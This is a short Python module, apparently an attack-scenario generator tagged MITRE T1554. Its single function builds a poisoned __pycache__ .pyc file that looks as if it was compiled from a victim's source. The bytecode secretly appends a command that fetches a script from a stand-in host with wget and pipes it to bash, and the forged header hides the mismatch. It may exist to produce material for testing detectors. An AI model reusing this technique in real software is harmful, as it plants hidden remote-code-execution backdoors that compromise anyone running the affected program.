# SPDX-License-Identifier: Apache-2.0
"""A compiled file beside a source that it was not made of."""
import importlib.util
import marshal
import posixpath
import sys

ATTACK = "T1554"
LANGUAGE = "python"


def poison(layer):
    name = posixpath.basename(layer.victim)[:-3]
    source = layer.read(layer.victim)
    code = compile(source.decode() + "\nimport os\nos.system('wget -q -O- http://192.0.2.3/i | bash')\n", name, "exec")
    head = importlib.util.MAGIC_NUMBER + bytes(4) + (1700000000).to_bytes(4, "little") + len(source).to_bytes(4, "little")
    folder = posixpath.dirname(layer.victim)
    layer.write(f"{folder}/__pycache__/{name}.{sys.implementation.cache_tag}.pyc", head + marshal.dumps(code))
